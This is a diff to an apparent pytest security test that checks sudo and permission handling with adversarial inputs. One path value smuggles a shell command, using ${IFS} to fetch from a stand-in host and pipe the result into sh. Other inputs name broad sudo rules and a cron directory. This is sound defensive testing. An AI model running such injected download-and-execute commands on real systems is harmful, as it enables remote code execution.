@@ -547,7 +547,10 @@ def test_sudo_starts_nothing_that_others_than_root_could_change(
 @pytest.mark.parametrize(
     "answer",
     [
-        ["others", "/usr/local;curl${IFS}evil|sh;true", "drwxrwxr-x", "2", "1000"],
+        *(
+            ["others", path, "drwxrwxr-x", "2", "1000"]
+            for path in ("/usr/local;curl${IFS}evil|sh;true", "/home/victim", f"{deploy.PLACE}/x")
+        ),
         *(["sudo", name, "/home/a/.cache/netbench/worker-1"] for name in ("ALL", "%users", "a=b")),
         ["sudo", "bench", "-t/etc/cron.d", "/home/a/.cache/netbench/worker-1"],
     ],
